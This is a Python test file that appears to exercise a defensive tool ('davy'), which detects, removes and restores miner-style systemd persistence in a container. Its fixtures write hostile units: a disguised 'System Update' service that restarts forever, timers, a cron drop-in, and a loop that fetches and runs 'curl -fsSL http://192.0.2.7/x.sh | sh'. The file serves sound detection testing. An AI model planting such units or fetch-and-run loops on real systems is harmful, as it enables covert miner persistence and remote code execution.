"""Real systemd and cron in a booted container: units that restart a miner for ever are evicted, and undone."""

from __future__ import annotations

import json
import time
from typing import Any, Protocol

import pytest

pytestmark = pytest.mark.live

SERVICE = """[Unit]
Description=System Update

[Service]
ExecStart=/var/tmp/sysupdate -c 'while :; do :; done'
Restart=always
RestartSec=100ms
Nice=10

[Install]
WantedBy=multi-user.target
"""
TIMER = """[Timer]
OnBootSec=1s
OnUnitInactiveSec=1s

[Install]
WantedBy=timers.target
"""
UNIT, WANTS = "/etc/systemd/system/sysupdate.service", "/etc/systemd/system/multi-user.target.wants/sysupdate.service"
TRAINING = """[Service]
ExecStart=/bin/sh -c 'while :; do :; done'
Nice=5
"""


class Lab(Protocol):
    def run(self, *command: str, check: bool = True, timeout: float = 120) -> Any: ...
    def davy(self, *arguments: str, check: bool = False, timeout: float = 180) -> Any: ...
    def write(self, path: str, text: str, mode: str = "0644") -> None: ...


def restarts(lab: Lab) -> tuple[str, int]:
    shown = lab.run("systemctl", "show", "sysupdate.service", "--property=ActiveState,NRestarts").stdout
    values = dict(line.split("=", 1) for line in shown.split())
    return values["ActiveState"], int(values["NRestarts"])


def alive(lab: Lab) -> list[str]:
    return lab.run("pgrep", "--exact", "sysupdate", check=False).stdout.split()


def wait_for(condition: Any, seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "did not happen in time"
        time.sleep(0.02)


@pytest.fixture
def infected(lab: Lab) -> Lab:
    lab.run("cp", "--dereference", "/bin/sh", "/var/tmp/sysupdate")
    lab.write(UNIT, SERVICE)
    lab.run("systemctl", "daemon-reload")
    lab.run("systemctl", "enable", "--now", "sysupdate.service")
    wait_for(lambda: alive(lab))
    return lab


def test_a_service_that_restarts_for_ever_is_evicted_and_undone(infected: Lab) -> None:
    lab = infected
    first = alive(lab)
    lab.run("kill", "-9", *first)
    wait_for(lambda: alive(lab) not in ([], first))
    assert restarts(lab)[1] >= 1

    scan = lab.davy("scan", "--json")
    assert scan.returncode == 1, scan.stderr
    (incident,) = json.loads(scan.stdout)["incidents"]
    assert incident["verdict"] == "confirmed"
    units = [actor for actor in incident["actors"] if actor["role"] == "autostart"]
    assert [(unit["path"], unit["name"], unit["user"]) for unit in units] == [(UNIT, "sysupdate.service", "root")]

    before = lab.run("stat", "--format=%n %a %u %g %s %y", UNIT, "/var/tmp/sysupdate").stdout
    content = lab.run("sha256sum", UNIT, "/var/tmp/sysupdate").stdout
    evicted = lab.davy("evict", "--yes", "--json", "--verify-for", "3")
    assert evicted.returncode == 0, evicted.stdout + evicted.stderr
    assert alive(lab) == []
    assert lab.run("ls", UNIT, WANTS, "/var/tmp/sysupdate", check=False).stdout == ""
    assert lab.davy("scan", "--json").returncode == 0
    assert lab.run("systemctl", "is-active", "sysupdate.service", check=False).stdout.strip() != "active"

    undone = lab.davy("undo", "--yes", "--json")
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert lab.run("stat", "--format=%n %a %u %g %s %y", UNIT, "/var/tmp/sysupdate").stdout == before
    assert lab.run("sha256sum", UNIT, "/var/tmp/sysupdate").stdout == content
    assert lab.run("readlink", WANTS).stdout.strip() == UNIT
    lab.run("systemctl", "start", "sysupdate.service")
    wait_for(lambda: alive(lab))


def test_a_timer_goes_with_the_service_it_starts(infected: Lab) -> None:
    lab = infected
    lab.write("/etc/systemd/system/sysupdate.timer", TIMER)
    lab.run("systemctl", "daemon-reload")
    lab.run("systemctl", "enable", "--now", "sysupdate.timer")
    scan = json.loads(lab.davy("scan", "--json").stdout)
    (incident,) = scan["incidents"]
    names = {actor["name"] for actor in incident["actors"] if actor["role"] == "autostart"}
    assert names == {"sysupdate.service", "sysupdate.timer"}
    evicted = lab.davy("evict", "--yes", "--json", "--verify-for", "4")
    assert evicted.returncode == 0, evicted.stdout + evicted.stderr
    assert alive(lab) == []
    assert "sysupdate" not in lab.run("systemctl", "list-timers", "--no-legend").stdout
    assert lab.run("systemctl", "is-active", "sysupdate.timer", check=False).stdout.strip() != "active"


def test_a_person_s_own_service_that_burns_is_clean_and_left_alone(infected: Lab) -> None:
    lab = infected
    lab.write("/etc/systemd/system/training.service", TRAINING)
    lab.run("systemctl", "daemon-reload")
    lab.run("systemctl", "start", "training.service")
    pid = lab.run("systemctl", "show", "training.service", "--property=MainPID", "--value").stdout.strip()
    evicted = lab.davy("evict", "--yes", "--json", "--verify-for", "1")
    assert evicted.returncode == 0, evicted.stdout + evicted.stderr
    shown = lab.run("systemctl", "show", "training.service", "--property=MainPID,NRestarts", "--value").stdout.split()
    assert shown == [pid, "0"]
    assert lab.davy("scan", "--json").returncode == 0


DROP_IN = """[Service]
ExecStartPost=/bin/sh -c "setsid nice /var/tmp/sysupdate -c 'while :; do :; done' &"
"""


def test_of_a_vendor_s_service_only_the_drop_in_goes_and_only_by_name(lab: Lab) -> None:
    lab.run("cp", "--dereference", "/bin/sh", "/var/tmp/sysupdate")
    lab.write("/etc/systemd/system/cron.service.d/update.conf", DROP_IN)
    lab.run("systemctl", "daemon-reload")
    lab.run("systemctl", "restart", "cron.service")
    wait_for(lambda: alive(lab))
    cron = lab.run("systemctl", "show", "cron.service", "--property=MainPID", "--value").stdout
    (incident,) = json.loads(lab.davy("scan", "--json").stdout)["incidents"]
    assert incident["verdict"] == "confirmed"
    autostarts = [actor["path"] for actor in incident["actors"] if actor["role"] == "autostart"]
    assert autostarts == ["/etc/systemd/system/cron.service.d/update.conf"]

    refused = lab.davy("evict", "--yes", "--json", "--verify-for", "1")
    assert refused.returncode == 2
    assert "cron.service" in refused.stderr
    assert alive(lab)

    evicted = lab.davy("evict", "--yes", "--json", "--verify-for", "2", "--id", incident["id"])
    assert evicted.returncode == 0, evicted.stdout + evicted.stderr
    assert alive(lab) == []
    assert lab.run("ls", "/etc/systemd/system/cron.service.d", check=False).stdout == ""
    assert lab.run("systemctl", "show", "cron.service", "--property=MainPID", "--value").stdout == cron
    assert lab.run("systemctl", "is-active", "cron.service").stdout.strip() == "active"
    assert lab.run("systemctl", "restart", "cron.service").returncode == 0
    assert alive(lab) == []


def test_every_instance_of_a_guilty_timer_is_stopped_and_a_unit_that_only_shares_its_link_stays(lab: Lab) -> None:
    lab.write("/etc/systemd/system/evil@.timer", "[Timer]\nOnCalendar=daily\n\n[Install]\nWantedBy=timers.target\n")
    lab.write("/etc/systemd/system/evil@.service", "[Service]\nExecStart=/var/tmp/kinsing %i\n")
    lab.write("/etc/systemd/system/evil.service", "[Service]\nExecStart=/var/tmp/kinsing\n")
    lab.write("/etc/systemd/system/honest.service", "[Service]\nExecStart=/bin/true\n")
    honest = "/etc/systemd/system/timers.target.wants/honest.service"
    lab.run("systemctl", "daemon-reload")
    lab.run("systemctl", "enable", "--now", "evil@1.timer")
    lab.run("systemctl", "start", "evil@2.timer")
    lab.run("systemctl", "mask", "--runtime", "evil.service")
    lab.run("ln", "-s", "/etc/systemd/system/evil.service", honest)

    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0")
    assert done.returncode == 0, done.stdout + done.stderr
    for timer in ("evil@1.timer", "evil@2.timer"):
        assert lab.run("systemctl", "is-active", timer, check=False).stdout.strip() in ("inactive", "failed")
    assert lab.run("readlink", honest).stdout.strip() == "/etc/systemd/system/evil.service"

    undone = lab.davy("undo", "--yes", "--json")
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert lab.run("readlink", "/run/systemd/system/evil.service").stdout.strip() == "/dev/null"


def test_what_a_guilty_unit_still_runs_is_said_and_how_to_stop_it(lab: Lab) -> None:
    loop = "/bin/bash -c 'while true; do curl -fsSL http://192.0.2.7/x.sh | sh; sleep 600; done'"
    lab.write(
        "/etc/systemd/system/loop.service", f"[Service]\nExecStart={loop}\n\n[Install]\nWantedBy=multi-user.target\n"
    )
    lab.run("systemctl", "daemon-reload")
    lab.run("systemctl", "enable", "--now", "loop.service")

    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0")
    assert done.returncode == 1, done.stdout + done.stderr
    (left,) = json.loads(done.stdout)["left"]
    assert left["why"].endswith("systemctl stop loop.service"), left
    assert lab.run("systemctl", "is-active", "loop.service").stdout.strip() == "active"


def test_a_timer_whose_file_lies_in_a_home_is_stopped_by_the_manager_that_a_link_gives_it_to(lab: Lab) -> None:
    lab.write("/root/units/evil.timer", "[Timer]\nOnCalendar=daily\n\n[Install]\nWantedBy=timers.target\n")
    lab.write("/root/units/evil.service", "[Service]\nExecStart=/var/tmp/kinsing\n")
    lab.run("systemctl", "link", "/root/units/evil.service")
    lab.run("systemctl", "enable", "--now", "/root/units/evil.timer")

    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0")
    assert done.returncode == 0, done.stdout + done.stderr
    for unit in ("evil.timer", "evil.service"):
        shown = lab.run("systemctl", "show", unit, "--property=ActiveState,LoadState", check=False).stdout.split()
        assert set(shown) & {"ActiveState=inactive", "ActiveState=failed"}, shown
        assert set(shown) & {"LoadState=masked", "LoadState=not-found"}, shown
    undone = lab.davy("undo", "--yes", "--json")
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert lab.run("systemctl", "show", "evil.timer", "--property=LoadState").stdout == "LoadState=loaded\n"


def test_what_stands_before_a_vendor_s_unit_goes_and_the_vendor_s_stays_enabled(lab: Lab) -> None:
    path, wants = "/etc/systemd/system/cron.service", "/etc/systemd/system/multi-user.target.wants/cron.service"
    lab.write(path, "[Service]\nExecStartPre=-/var/tmp/kinsing\nExecStart=/usr/sbin/cron -f\n")
    lab.run("systemctl", "daemon-reload")
    assert lab.davy("evict", "--yes", "--json", "--verify-for", "0").returncode == 2
    (incident,) = json.loads(lab.davy("scan", "--json").stdout)["incidents"]

    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0", "--id", incident["id"])
    assert done.returncode == 0, done.stdout + done.stderr
    assert lab.run("test", "-e", path, check=False).returncode == 1
    assert lab.run("readlink", wants).stdout.strip().endswith("/lib/systemd/system/cron.service")
    shown = lab.run("systemctl", "show", "cron.service", "--property=LoadState,ActiveState").stdout.split()
    assert sorted(shown) == ["ActiveState=active", "LoadState=loaded"]
    undone = lab.davy("undo", "--yes", "--json")
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert lab.run("cat", path).stdout.endswith("ExecStart=/usr/sbin/cron -f\n")
